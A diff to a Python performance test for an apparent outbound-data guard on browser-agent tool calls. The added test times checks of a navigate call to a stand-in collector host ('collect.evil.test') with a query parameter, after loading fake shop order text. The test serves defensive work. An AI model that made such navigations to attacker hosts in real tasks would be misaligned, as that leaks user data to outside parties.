@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import time
 from pathlib import Path
 from statistics import median
@@ -53,4 +54,20 @@ async def test_a_comparison_takes_less_than_a_millisecond(tmp_path: Path) -> Non
                 start = time.process_time()
                 await guard.check(tool, args, step.page)
                 times.append(time.process_time() - start)
+    assert median(times) < 0.001
+
+
+async def test_shown_texts_are_indexed_between_the_calls(tmp_path: Path) -> None:
+    guard = OutflowGuard("note", NO_SECRETS, tmp_path)
+    tool = TOOLS["navigate"]
+    args = tool.parse({"url": "https://collect.evil.test/?q=hello"})
+    times = []
+    for number in range(9):
+        text = "\n".join(f"- row: Order {number * 1000 + each} | paid" for each in range(1200))
+        guard.remember_reply(f"https://shop{number}.test/", text)
+        while guard.is_indexing_pending:  # noqa: ASYNC110 - no event
+            await asyncio.sleep(0)
+        start = time.process_time()
+        await guard.check(tool, args, "about:blank")
+        times.append(time.process_time() - start)
     assert median(times) < 0.001
